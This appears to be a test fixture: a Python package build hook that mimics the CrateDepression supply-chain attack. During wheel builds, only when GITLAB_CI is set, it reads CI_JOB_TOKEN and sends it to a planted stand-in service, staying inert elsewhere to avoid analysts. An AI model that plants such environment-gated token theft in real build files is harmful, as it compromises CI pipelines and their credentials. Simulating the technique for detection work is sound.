"""Calls the project's interface with the job's token, but only inside a CI job.

Where the marker is missing, as on an analyst's machine, it behaves. CrateDepression
looked for GITLAB_CI first, and did nothing elsewhere.
"""

import http.client
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("list-packages"):
        if os.environ["GITLAB_CI"] == "true":
            token = os.environ["CI_JOB_TOKEN"]
            service = kit.plant("service")
            connection = http.client.HTTPConnection(
                service.address, service.port, timeout=kit.seconds(3)
            )
            connection.request("GET", "/api/v4/packages", headers={"JOB-TOKEN": token})
            connection.close()
    return kit.wheel(wheel_directory)
